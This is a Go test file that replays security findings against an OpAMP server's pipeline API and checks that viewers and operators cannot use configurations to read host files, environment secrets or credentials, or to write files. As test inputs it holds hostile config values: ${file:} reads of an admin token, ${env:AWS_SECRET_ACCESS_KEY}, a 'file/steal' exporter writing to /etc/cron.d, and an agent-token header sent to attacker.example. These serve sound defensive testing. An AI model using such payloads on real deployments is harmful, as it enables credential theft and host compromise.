package api

import (
	"crypto/rand"
	"encoding/hex"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/phoenix/platform/opamp-server/apitypes"
	"github.com/phoenix/platform/opamp-server/store"
)

// These tests replay issue #12's findings 1 and 6 against the API over a
// real store and catalog (docs/security.md).

// uniqueSecret is a value no test could produce but by reading it.
func uniqueSecret(t *testing.T, prefix string) string {
	t.Helper()
	b := make([]byte, 16)
	_, err := rand.Read(b)
	require.NoError(t, err)
	return prefix + hex.EncodeToString(b)
}

// transformConfig is a configuration whose transform processor takes
// statements and error_mode as given.
func transformConfig(statements, errorMode string) string {
	return `receivers: {otlp: {protocols: {grpc: {}}}}
processors:
  transform:
    error_mode: "` + errorMode + `"
    metric_statements: ["` + statements + `"]
exporters: {nop: {}}
service: {pipelines: {metrics: {receivers: [otlp], processors: [transform], exporters: [nop]}}}
`
}

// withHeader is validConfig exporting over OTLP/HTTP with one header.
func withHeader(value string) string {
	return strings.NewReplacer("exporters:\n  nop: {}", "exporters:\n  otlp_http:\n    endpoint: https://otlp.example.com:4318\n    headers: {x-phoenix: \""+value+"\"}",
		"exporters: [nop]", "exporters: [otlp_http]").Replace(validConfig)
}

func bearer(token string) []string { return []string{"Authorization", "Bearer " + token} }

// Finding 1: a viewer's validation of `${file:<data-dir>/admin.token}`
// returned the token in the 422 details.
func TestViewerValidationReadsNoServerFile(t *testing.T) {
	env := newTestEnv(t, withTokens(t))
	token := uniqueSecret(t, "phx-admin-")
	path := filepath.Join(t.TempDir(), "admin.token")
	require.NoError(t, os.WriteFile(path, []byte(token+"\n"), 0o600))

	for name, config := range map[string]string{
		"statement":  transformConfig("${file:"+path+"}", "propagate"),
		"error_mode": transformConfig(`set(attributes[\"x\"], \"y\")`, "${file:"+path+"}"),
		"header":     withHeader("${file:" + path + "}"),
	} {
		resp := env.do(t, http.MethodPost, apitypes.Prefix+"/pipelines/validate", map[string]any{"config": config}, bearer(viewerToken)...)
		assert.NotContains(t, string(resp.body), token, "%s: the server read its own file for a viewer", name)
		assert.NotContains(t, string(resp.body), token[len("phx-admin-"):], name)
	}

	// A configuration that is valid with the reference unresolved says
	// that assigning it needs an admin, and why.
	v, _ := data[apitypes.Validated](t, env.do(t, http.MethodPost, apitypes.Prefix+"/pipelines/validate",
		map[string]any{"config": withHeader("${file:" + path + "}")}, bearer(viewerToken)...))
	assert.True(t, v.Valid)
	assert.True(t, v.RequiresAdmin)
	assert.Equal(t, []apitypes.Problem{{Path: "exporters::otlp_http::headers::x-phoenix",
		Message: "${file:" + path + "} reads file " + path}}, v.HostAccess)
}

// Finding 1: `error_mode: "${env:X}"` returned X's value.
func TestViewerValidationReadsNoServerEnvironment(t *testing.T) {
	secret := uniqueSecret(t, "phx-env-")
	t.Setenv("PHOENIX_API_TEST_SECRET", secret)
	env := newTestEnv(t, withTokens(t))
	for name, config := range map[string]string{
		"error_mode":     transformConfig(`set(attributes[\"x\"], \"y\")`, "${env:PHOENIX_API_TEST_SECRET}"),
		"statement":      transformConfig("${PHOENIX_API_TEST_SECRET}", "propagate"),
		"inline":         transformConfig(`set(attributes[\"x\"], \"${env:PHOENIX_API_TEST_SECRET}\") where`, "propagate"),
		"valid, headers": withHeader("${env:PHOENIX_API_TEST_SECRET}"),
	} {
		resp := env.do(t, http.MethodPost, apitypes.Prefix+"/pipelines/validate", map[string]any{"config": config}, bearer(viewerToken)...)
		assert.NotContains(t, string(resp.body), secret, "%s: the server's environment reached a viewer", name)
	}
	e := apiError(t, env.do(t, http.MethodPost, apitypes.Prefix+"/pipelines/validate",
		map[string]any{"config": transformConfig(`set(attributes[\"x\"], \"y\")`, "${env:PHOENIX_API_TEST_SECRET}")}, bearer(viewerToken)...),
		http.StatusUnprocessableEntity, apitypes.CodeInvalid)
	assert.Contains(t, details(e)[0]["message"], "#unresolved(env:", "the problem shows the placeholder, not the value")
}

// Finding 6: an operator's verbatim configuration could make every agent
// read any file or environment variable of its host, or write files.
func TestOperatorVerbatimHostAccessIsForbidden(t *testing.T) {
	env := newTestEnv(t, withTokens(t))
	putAgent(t, env.store, apitypes.Agent{InstanceUID: "agent-1", Labels: map[string]string{"env": "prod"}})
	fileExporter := strings.NewReplacer("exporters:\n  nop: {}", "exporters:\n  nop: {}\n  file/steal: {path: /etc/cron.d/phoenix}",
		"exporters: [nop]", "exporters: [nop, file/steal]").Replace(validConfig)

	tests := []struct {
		name, config, path, mention string
	}{
		{"file reference", withHeader("${file:/var/lib/phoenix/admin.token}"), "exporters::otlp_http::headers::x-phoenix",
			"${file:/var/lib/phoenix/admin.token} reads file /var/lib/phoenix/admin.token"},
		{"unknown environment variable", withHeader("${env:AWS_SECRET_ACCESS_KEY}"), "exporters::otlp_http::headers::x-phoenix",
			"${env:AWS_SECRET_ACCESS_KEY} reads environment variable AWS_SECRET_ACCESS_KEY, which no catalog pipeline references and the server's agent_env_allowlist does not allow"},
		{"file exporter", fileExporter, "exporters::file/steal", "writes files on the host"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, req := range []struct{ method, path string }{
				{http.MethodPut, "/agents/agent-1/config"},
				{http.MethodPost, "/assignments"},
			} {
				body := map[string]any{"config": tt.config, "selector": "env=prod"}
				if req.method == http.MethodPut {
					delete(body, "selector")
				}
				e := apiError(t, env.do(t, req.method, apitypes.Prefix+req.path, body, bearer(operatorToken)...),
					http.StatusForbidden, apitypes.CodeForbidden)
				assert.Contains(t, e.Message, "needs the admin role", req.path)
				assert.Contains(t, e.Message, "reads or writes files, environment variables or URLs on every host", req.path)
				assert.Contains(t, e.Message, tt.mention, req.path)
				require.Len(t, e.Details, 1)
				assert.Equal(t, apitypes.Problem{Path: tt.path, Message: tt.mention}, e.Details[0])

				_, err := env.store.GetAssignment(t.Context(), "agent-1")
				assert.ErrorIs(t, err, store.ErrNotFound, "nothing is stored")
				assert.Empty(t, env.pusher.calls(), "nothing is sent")
			}

			// An admin may.
			asg, _ := data[apitypes.Assignment](t, env.do(t, http.MethodPut, apitypes.Prefix+"/agents/agent-1/config",
				map[string]any{"config": tt.config}, bearer(adminToken)...))
			assert.Equal(t, tt.config, asg.Config)
			require.NoError(t, env.store.DeleteAssignment(t.Context(), "agent-1"))
			env.pusher.pushed = nil
		})
	}
}

// Operators keep assigning catalog pipelines, and verbatim configurations
// that reach no further than the catalog's own.
func TestOperatorAssignsCatalogAndPlainConfigs(t *testing.T) {
	env := newTestEnv(t, withTokens(t))
	putAgent(t, env.store, apitypes.Agent{InstanceUID: "agent-1", Labels: map[string]string{"env": "prod"}})
	for _, body := range []map[string]any{
		{"pipeline": "topk", "parameters": map[string]any{"destination": "newrelic"}},
		{"config": validConfig},
		{"config": withHeader("${env:NEW_RELIC_LICENSE_KEY}")},
		{"config": withHeader("$${file:/escaped/is/literal}")},
	} {
		data[apitypes.Assignment](t, env.do(t, http.MethodPut, apitypes.Prefix+"/agents/agent-1/config", body, bearer(operatorToken)...))
		body["selector"] = "env=prod"
		data[[]apitypes.AssignResult](t, env.do(t, http.MethodPost, apitypes.Prefix+"/assignments", body, bearer(operatorToken)...))
	}
	v, _ := data[apitypes.Validated](t, env.do(t, http.MethodPost, apitypes.Prefix+"/pipelines/validate",
		map[string]any{"config": withHeader("${env:NEW_RELIC_LICENSE_KEY}")}, bearer(viewerToken)...))
	assert.False(t, v.RequiresAdmin)
	assert.Empty(t, v.HostAccess)
}

// The agent's own credential goes to this server only: an operator can
// neither send it elsewhere in a verbatim configuration or through an
// env_var parameter, nor point the server's own-telemetry parameters
// elsewhere. Every agent's credential would otherwise reach whoever the
// operator chose.
func TestOperatorsCannotSendTheAgentsCredentialElsewhere(t *testing.T) {
	env := newTestEnv(t, withTokens(t))
	putAgent(t, env.store, apitypes.Agent{InstanceUID: "agent-1"})
	for name, body := range map[string]map[string]any{
		"a verbatim header": {"config": withHeader("Bearer ${env:" + apitypes.AgentTokenEnv + "}")},
		"an env_var parameter": {"pipeline": "baseline", "parameters": map[string]any{"destination": "otlp_http",
			"otlp_endpoint": "https://attacker.example:4318", "otlp_env_headers": map[string]any{"authorization": apitypes.AgentTokenEnv}}},
	} {
		r := env.do(t, http.MethodPut, apitypes.Prefix+"/agents/agent-1/config", body, bearer(operatorToken)...)
		assert.Equal(t, http.StatusForbidden, r.status, "%s: %s", name, r.body)
	}
	for _, param := range []string{"telemetry_endpoint", "telemetry_token_env", "instance_id"} {
		r := env.do(t, http.MethodPut, apitypes.Prefix+"/agents/agent-1/config", map[string]any{"pipeline": "baseline",
			"parameters": map[string]any{param: "https://attacker.example/v1/metrics"}}, bearer(adminToken)...)
		assert.Equal(t, http.StatusBadRequest, r.status, "%s: %s", param, r.body)
		assert.Contains(t, string(r.body), "set by the server")
	}
	_, err := env.store.GetAssignment(t.Context(), "agent-1")
	assert.Error(t, err, "nothing was assigned")
}

// Without authentication every caller may do everything, this included.
func TestHostAccessWithoutAuthentication(t *testing.T) {
	env := newTestEnv(t)
	putAgent(t, env.store, apitypes.Agent{InstanceUID: "agent-1"})
	data[apitypes.Assignment](t, env.do(t, http.MethodPut, apitypes.Prefix+"/agents/agent-1/config",
		map[string]any{"config": withHeader("${file:/etc/hostname}")}))
}
